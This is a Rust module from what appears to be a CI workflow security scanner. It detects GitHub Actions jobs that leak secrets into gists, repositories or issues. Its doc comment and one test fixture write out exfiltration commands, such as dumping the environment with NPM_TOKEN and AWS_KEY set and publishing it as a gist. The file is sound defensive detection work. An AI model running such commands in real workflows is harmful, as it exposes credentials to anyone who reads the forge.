//! Secrets are written to a repository, an issue, a comment, a release or a gist.
//!
//! A forge is no foreign host, and so the traffic looks like any other; but the receiver is a place that others read.
//! With the job's own token a thief writes into the victim's own repository and reads it there.
//!
//! ```yaml
//! - run: gh gist create --public secrets.txt
//! ```
//!
//! Handing a value to the forge as a secret or setting (`gh secret set`) is a use, not a leak.

use crate::flow::trace::Channel;
use crate::flow::value::Source;
use crate::signal::Signal;
use crate::technique::{
    Evidence, Sighting, Technique, named_secrets, only_settings, unrelated_to_each_other,
};

/// See the module's documentation.
pub(super) struct SecretToRepository;

impl Technique for SecretToRepository {
    fn id(&self) -> &'static str {
        "secret-to-repository"
    }
    fn headline(&self) -> &'static str {
        "{secrets} written to {places}"
    }
    fn remedy(&self) -> &'static str {
        "invalidate every secret listed, delete what was written, and take the workflow out"
    }
    fn source(&self) -> &'static str {
        include_str!("secret_to_repository.rs")
    }

    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
        let groups = evidence.grouped(|delivery, _| {
            delivery.channel == Channel::Repository
                && !delivery.consumed
                && delivery.carried.iter().any(|carried| carried.source != Source::JobToken)
        });
        groups
            .into_iter()
            .filter_map(|group| {
                let mut signals = evidence.cargo_signals(&group);
                let (_, place) = evidence.delivery(*group.first()?)?;
                if place.is_foreign() {
                    signals.insert(Signal::ForeignDestination);
                }
                // A push to the repository itself is an everyday thing; hiding what is pushed is not.
                if place.name == "origin" && !signals.contains(&Signal::Encoded) {
                    signals.remove(&Signal::SinglePurpose);
                }
                signals.insert(Signal::Downloadable);
                let names = named_secrets(&evidence.carried(&group));
                // Keys that are encoded into a package are there for whoever installs it to find.
                let in_package = place.service.is_some_and(|service| service.publishes)
                    && names.len() >= 2
                    && signals.contains(&Signal::Encoded);
                if unrelated_to_each_other(&names) || in_package {
                    signals.insert(Signal::UnrelatedSecrets);
                }
                if only_settings(&names) {
                    signals.insert(Signal::SettingsOnly);
                }
                Some(Sighting { deliveries: group, signals, ..Sighting::default() })
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use crate::report::Verdict;
    use crate::testing::{check, silent};

    #[test]
    fn a_gist_of_the_environment() {
        check(
            "secret-to-repository",
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.NPM_TOKEN }}', B: '${{ secrets.AWS_KEY }}'}\n    steps:\n      - run: env > e.txt && gh gist create e.txt\n",
            Verdict::Malicious,
            &["AWS_KEY", "NPM_TOKEN"],
            &["gist.github.com"],
        );
    }

    #[test]
    fn a_secret_set_elsewhere_is_used_up() {
        silent(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh secret set TOKEN --body '${{ secrets.TOKEN }}' --repo me/other\n        env: {GH_TOKEN: '${{ secrets.PAT }}'}\n",
        );
    }
}
